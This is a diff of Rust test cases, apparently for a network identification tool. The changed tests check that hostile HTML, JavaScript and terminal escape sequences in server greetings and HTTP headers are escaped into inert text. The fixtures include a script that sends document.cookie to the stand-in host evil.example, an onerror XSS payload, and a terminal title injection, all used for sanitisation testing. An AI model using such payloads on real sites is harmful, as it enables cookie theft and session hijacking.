@@ -335,13 +335,13 @@ async fn ansi_escape_sequences_never_reach_the_output() {
 }
 
 #[tokio::test]
-async fn html_and_javascript_are_kept_as_inert_text() {
+async fn html_and_javascript_are_kept_as_inert_text_without_tags() {
     let port = greeting(b"<html><script>document.location='http://evil.example/'+document.cookie</script><img src=x onerror=alert(1)>\r\n").await;
     let report = identify("html", port, &IdentifyOptions::default()).await;
     let evidence = &report.identity.evidence;
     assert_printable(evidence);
     assert!(
-        evidence.starts_with("<html><script>document.location="),
+        evidence.starts_with("\\x3chtml\\x3e\\x3cscript\\x3edocument.location="),
         "{evidence}"
     );
     assert!(evidence.ends_with("\\x0d\\x0a"));
@@ -611,7 +611,7 @@ async fn hostile_http_headers_are_escaped_once() {
     let http = report.posture.http.unwrap();
     assert_eq!(
         http.title.as_deref(),
-        Some("\\x1b]0;owned\\x07<script>alert(1)</script>")
+        Some("\\x1b]0;owned\\x07\\x3cscript\\x3ealert(1)\\x3c/script\\x3e")
     );
     assert_eq!(
         http.server.as_deref(),
